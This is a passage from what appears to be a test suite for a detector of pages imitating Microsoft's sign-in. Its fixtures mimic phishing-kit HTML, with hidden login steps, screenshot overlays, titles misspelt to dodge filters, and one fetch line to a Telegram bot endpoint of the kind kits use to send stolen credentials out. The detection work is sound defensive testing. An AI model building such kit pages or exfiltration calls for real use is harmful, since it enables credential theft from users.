    ['Entrar - Loja Sol', 'Entrar', 'Continuar conectado?', 'Não tem uma conta? Crie uma'],
  ])(
    'a shop’s login that says two things Microsoft’s pages say too (%s)',
    (title, signIn, stay, create) => {
      const shop = page(
        title,
        `<h1>${signIn}</h1><form action="/login" method="post">${EMAIL}${PASSWORD}
       <label><input type="checkbox" name="remember"> ${stay}</label><button>${signIn}</button></form>
       <a href="/signup">${create}</a>`,
      );
      expect(verdict(shop, 'https://shop.example.net/login').verdict).toBe('other');
      // The same words on a page that names Microsoft's account are an imitation's.
      const card = shop.replace(
        `<h1>${signIn}</h1>`,
        `<h1>Microsoft account</h1><h2>${signIn}</h2>`,
      );
      expect(verdict(card, 'https://shop.example.net/login').verdict).toBe('lookalike');
    },
  );

  it('a shared document offering Microsoft accounts to sign in with, and no other mail', () => {
    const share = page(
      'Contract_2026.pdf – Paperflow',
      `<h1>Alex Morgan shared a document with you</h1><p>Sign in to view and sign it.</p>
       <a href="/auth/google">Continue with Google</a><a href="/auth/microsoft">Continue with Microsoft</a>
       <a href="/auth/microsoft">Log in with Office 365</a>
       <form action="/subscribe"><p>Sign up for weekly Outlook tips</p>${EMAIL}<button>Subscribe</button></form>`,
    );
    expect(
      readPageSignals(snapshot(share, 'https://sign.paperflow.example/d/7Hq2')).providerChooser,
    ).toBe(false);
    expect(verdict(share, 'https://sign.paperflow.example/d/7Hq2').verdict).toBe('other');
  });

  it('a library’s documentation on a free site named for a Microsoft product, asking for nothing', () => {
    const docs = page(
      'Getting started — O365 documentation',
      `<form class="search" action="search.html" method="get"><input type="text" name="q"></form>
       <h1>Getting started</h1><p>Connect to Microsoft Graph and the Office 365 APIs: authenticate, then read your mailbox.</p>`,
    );
    const url = 'https://o365.github.io/python-o365/latest/getting_started.html';
    expect(classifyUrl(url).verdict).toBe('lookalike');
    expect(verdict(docs, url).verdict).toBe('other');
    // The same address with a sign-in form on it is judged on the form, with the address against it.
    const card = page('Office 365', `<h1>Office 365</h1><p>Sign in</p>${EMAIL}${PASSWORD}`);
    expect(verdict(card, url).verdict).toBe('lookalike');
  });

  it('a blog about Outlook whose contact box posts to a form service', () => {
    const blog = page(
      'How to set up Outlook on a new phone',
      `<article><h1>How to set up Outlook on a new phone</h1><p>Open the Outlook app and add your Microsoft 365 account. Check the address bar says login.microsoftonline.com before you type your password.</p></article>
       <aside><h2>Write to us</h2><form action="https://submit-form.com/Xk2pLmQ7" method="POST"><input type="text" name="name">${EMAIL}<textarea name="message"></textarea><button>Send</button></form></aside>`,
    );
    expect(verdict(blog, 'https://outlook-tips.example.dev/setup/').verdict).toBe('other');
  });

  it('webmail that mentions Outlook', () => {
    const roundcube = page(
      'Webmail :: Welcome',
      `<form action="./?_task=login" method="post"><h1>Roundcube Webmail</h1><p>Use Outlook or this page to read your mail.</p>
       <input type="text" name="_user" id="rcmloginuser"><input type="password" name="_pass" id="rcmloginpwd">
       <button>Login</button></form>`,
    );
    expect(verdict(roundcube, 'https://mail.example.org/').verdict).toBe('other');
  });

  it('a page whose only Microsoft-like field name is "passwd" (Comcast uses it too)', () => {
    const comcast = page(
      'Sign in to XFINITY',
      `<form action="login.php"><input type="text" name="user"><input type="password" name="passwd">
       <label>Stay signed in</label><button>Sign In</button></form><p>© Comcast</p>`,
    );
    expect(verdict(comcast).verdict).toBe('other');
  });

  it('another brand’s phishing page', () => {
    const google = page(
      'Sign in - Google Accounts',
      `<h1>Sign in</h1><p>Use your Google Account</p>${EMAIL}${PASSWORD}<a href="#">Forgot password?</a>
       <script>fetch("https://api.telegram.org/bot1:AA/sendMessage")</script>`,
    );
    expect(verdict(google, 'https://accounts-google.example.net/').verdict).toBe('other');
  });
});

describe('saved copies of Microsoft pages', () => {
  it('reads the "saved from" and HTTrack comments a copied page keeps', () => {
    for (const comment of [
      '<!-- saved from url=(0062)https://login.microsoftonline.com/common/oauth2/authorize -->',
      '<!-- Mirrored from login.live.com/login.srf by HTTrack Website Copier/3.x -->',
    ]) {
      const html = `${comment}<html><head><title>Sign in</title></head><body>${EMAIL}${PASSWORD}</body></html>`;
      const result = analyseSavedPage('https://portal.example.net/login', html);
      expect(result.verdict, comment).toBe('lookalike');
      expect(result.reasons.map((r) => r.code)).toContain('saved-copy-of-microsoft-page');
    }
    const other = `<!-- saved from url=(0030)https://shop.example.com/login --><html><body>${EMAIL}${PASSWORD}</body></html>`;
    expect(analyseSavedPage('https://portal.example.net/login', other).verdict).toBe('other');
  });
});

describe('saved pages read as a browser parses them', () => {
  const STEP = `<title>Sign in to your Microsoft account</title>
    <div class="card"><img src="assets/images/logo.svg"><h1>Enter password</h1>
    <form method="post" action="next.php"><input type="password" name="pass" placeholder="Password">
    <label><input type="checkbox"> Keep me signed in</label><a href="#">Forgot my password</a>
    <button>Sign in</button></form></div>`;

  it.each([
    [
      'starting with its PHP code',
      `<?php session_start(); ?>\n<!DOCTYPE html><html lang="en">${STEP.replace('<div class="card">', '<body><div class="card">')}</html>`,
    ],
    ['with no head or body tags', `<!DOCTYPE html><html lang="en">${STEP}</html>`],
    [
      'with an element between head and body',
      `<html><head><title>Sign in</title></head><div id="bg"></div><body>${STEP}</body></html>`,
    ],
  ])('finds the title and text of a kit %s', (_, html) => {
    expect(analyseSavedPage('https://clearwater-gallery.example/x/pass.php', html).verdict).toBe(
      'lookalike',
    );
  });

  it('reads the steps a kit keeps hidden until its script shows them, as suspect', () => {
    const kit = `<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>
      <div id="add_em" style="display: none;"><div>Sign in</div><label>Email, phone, or Skype</label><input type="email" name="login" placeholder="Email">
      <p>No account? Create one!</p><p>Can't access your account?</p></div>
      <div id="add_pass" style="display: none;"><div>Enter password</div><input type="password" name="passwd">
      <p>Forgot my password</p></div><div>Terms of use Privacy &amp; cookies</div></body></html>`;
    expect(analyseSavedPage('https://northgate-gallery.example/x/login.php', kit).verdict).toBe(
      'lookalike',
    );
  });
});

describe('a screenshot kit whose only Microsoft sign is the logo in its picture', () => {
  const KIT = `<!DOCTYPE html><html><head><title></title><style>
body{background:#fff url('shot.png') no-repeat center top}
.x{position:absolute;left:492px;width:369px;height:34px;border:none;background:transparent}
</style></head><body><form method="post" action="next.php">
<input class="x" type="text" name="u"><input class="x" type="password" name="p">
</form></body></html>`;
  const URL_ = 'https://verify-portal-access.example.net/';

  it('is a lookalike once the content script found the logo in the picture', () => {
    const found = snapshot(KIT, URL_);
    const marked = { ...found, marks: [...(found.marks ?? []), 'logo-picture'] };
    const result = analysePage(URL_, marked);
    expect(result.verdict).toBe('lookalike');
    expect(result.reasons[0]?.code).toBe('screenshot-sign-in-page');
  });

  it('is not one on its layout alone: other sites lay forms over pictures too', () => {
    expect(analysePage(URL_, snapshot(KIT, URL_)).verdict).toBe('other');
  });
});

describe('a plain card that presents itself as a Microsoft service', () => {
  const FORM = `<form method="post" action="auth.php"><input type="text" name="email" placeholder="Email">${PASSWORD}<button>Login</button></form>`;

  it.each([
    ['titled "Microsoft 365"', page('Microsoft 365', `<h3>Microsoft 365</h3>${FORM}`)],
    ['headed "Office 365"', page('Login', `<h3>Office 365</h3>${FORM}`)],
    ['headed "Outlook"', page('Outlook', `<h2>Outlook</h2>${FORM}`)],
    ['headed in Portuguese', page('Entrar', `<h2>Entrar na sua conta da Microsoft</h2>${FORM}`)],
    [
      'titled "OneDrive for Business"',
      page('OneDrive for Business', `<p>Recipients only</p>${FORM}`),
    ],
  ])('is a lookalike when %s, with two boxes and nothing else', (_, html) => {
    expect(verdict(html, 'https://portal.example-host.com/index.php').verdict).toBe('lookalike');
  });

  it.each([
    ['a hidden "Sign in with Microsoft" link', '<a href="/sso" hidden>Sign in with Microsoft</a>'],
    ['a link inside a hidden block', '<div aria-hidden="true"><a href="/sso">Office 365</a></div>'],
    ['a comment box', '<textarea name="comment" hidden></textarea>'],
    [
      'a newsletter box kept out of sight',
      '<form action="/subscribe" hidden><input type="email" name="EMAIL" placeholder="Newsletter"></form>',
    ],
  ])('is still one with %s added: nothing it adds explains its password box away', (_, added) => {
    const html = page('Microsoft 365', `<h3>Microsoft 365</h3>${FORM}${added}`);
    expect(verdict(html, 'https://portal.example-host.com/index.php').verdict).toBe('lookalike');
  });

  it.each([
    ['a product made for it', page('Backup for Microsoft 365', `<h1>Sign in</h1>${FORM}`)],
    [
      'an identity provider naming where it signs you in to',
      page('Contoso - Sign In', `<h2>Sign in to continue to Office 365</h2>${FORM}`),
    ],
    [
      'a staff portal whose links name Outlook',
      page(
        'Staff portal',
        `<h1>Woodgrove Staff Portal</h1><p>Quick links: Outlook Web Access, Payroll</p>${FORM}`,
      ),
    ],
    [
      'a blog about Outlook with a members’ log-in',
      page(
        'Outlook Tips &amp; Tricks – Members',
        `<h1>Outlook Tips &amp; Tricks</h1><p>Our weekly column on rules and calendars.</p>${FORM}`,
      ),
    ],
    [
      'a migration firm’s client area',
      page(
        'Microsoft 365 Migration Services | Fabrikam IT',
        `<h1>Microsoft 365 migration</h1><p>We move your mail and files.</p>${FORM}`,
      ),
    ],
    [
      'a college portal offering Office 365 to students',
      page(
        'Student portal – Northwind College',
        `<h1>Office 365 for students</h1><p>Every student gets Word and Excel. Sign in below.</p>${FORM}`,
      ),
    ],
  ])('is not one for %s', (_, html) => {
    expect(verdict(html, 'https://portal.example-host.com/index.php').verdict).toBe('other');
  });
});

describe("a blog or forum about Microsoft's products, logging in to its own site", () => {
  it.each([
    [
      'a WordPress training site',
      page(
        'Login – SharePoint Maven',
        `<h1>SharePoint training login</h1><form action="/wp-login.php" method="post">
         <input name="log" placeholder="Username or Email">${PASSWORD}<button>Log In</button></form>
         <a href="/wp-login.php?action=lostpassword">Lost your password?</a>`,
      ),
    ],
    [
      'a phpBB forum',
      page(
        'Outlook Forum - Log in',
        `<h1>Outlook Forum</h1><form action="./ucp.php?mode=login" method="post">
         <input name="username">${PASSWORD}<input type="submit" value="Login"></form>`,
      ),
    ],
  ])('is not a lookalike: %s', (_, html) => {
    expect(verdict(html, 'https://portal.example-host.com/login').verdict).toBe('other');
  });

  it('still is one when the same card posts elsewhere', () => {
    const card = page(
      'Login – SharePoint',
      `<h1>SharePoint</h1><form action="next.php" method="post"><input name="log">${PASSWORD}<button>Log In</button></form>`,
    );
    expect(verdict(card, 'https://portal.example-host.com/login').verdict).toBe('lookalike');
  });
});

describe('what real kits do that the model reads through', () => {
  const PICTURE = '<img src="img/bg1.jpg" style="position:absolute;left:0;top:0" width="1060">';
  const placed = (field: string) =>
    `<form method="post" action="next.php"><input type="text" name="email" style="position:absolute;top:269px">${field}</form>`;

  it('takes a plain text box named or labelled as the password for one', () => {
    const owa = (field: string) =>
      verdict(page('Outlook Web App', `${PICTURE}${placed(field)}`), 'https://a.example/x/s.php');
    for (const field of [
      '<input type="text" name="pd" style="position:absolute;top:337px">',
      '<input type="text" id="pwd" name="f2" style="position:absolute;top:337px">',
      '<input type="text" name="f2" placeholder="Password" style="position:absolute;top:337px">',
    ])
      expect(owa(field)).toEqual({
        verdict: 'lookalike',
        codes: expect.arrayContaining(['owa-copy']),
      });
    expect(
      owa('<input type="text" name="passport" style="position:absolute;top:337px">').verdict,
    ).toBe('other');
  });

  it('takes a password box made by a script, however the script writes it', () => {
    for (const code of [
      'document.getElementsByTagName("input")[1].type = "password"',
      "box.setAttribute('type', 'password')",
    ]) {
      const snap = snapshot(page('', `<script>${code}</script>`), 'https://a.example/');
      expect(snap.marks).toContain('type=password');
    }
  });

  it('reads a title spelt to slip past filters as Microsoft’s', () => {
    const kit = (title: string) =>
      verdict(
        page(
          title,
          `${PICTURE}${placed('<input type="password" name="password" style="position:absolute;top:337px">')}`,
        ),
        'https://a.example/x/LL1.htm',
      );
    expect(kit('WINDOWS S1GN 1N.').verdict).toBe('lookalike');
    expect(kit('VVINDOWS SIGN IN').verdict).toBe('lookalike');
    expect(kit('Members area').verdict).toBe('other');
  });

  it('counts Microsoft’s footer as a third line of its wording, never as the only one', () => {
    const card = (lines: string) =>
      verdict(
        `<!DOCTYPE html><html lang="fr"><head><title>Connectez-vous à votre compte</title></head><body>
         <img src="images/logo.png" alt="logo"><h1>Connexion</h1>
         <form method="post"><input type="email" name="login" placeholder="E-mail ou téléphone">
         <input type="password" name="password" placeholder="Mot de passe"><button>Suivant</button></form>${lines}</body></html>`,
        'https://espace-rh.example/site/index.html',
      ).verdict;
    const footer =
      "<footer><a>Conditions d'utilisation</a><a>Confidentialité et cookies</a></footer>";
    const twoLines = '<p>Aucun compte ? Créez-en un !</p><p>Options de connexion</p>';
    expect(card(twoLines + footer)).toBe('lookalike');
    expect(card(twoLines)).toBe('other');
    expect(card(`<p>Aucun compte ? Créez-en un !</p>${footer}`)).toBe('other');
  });
});
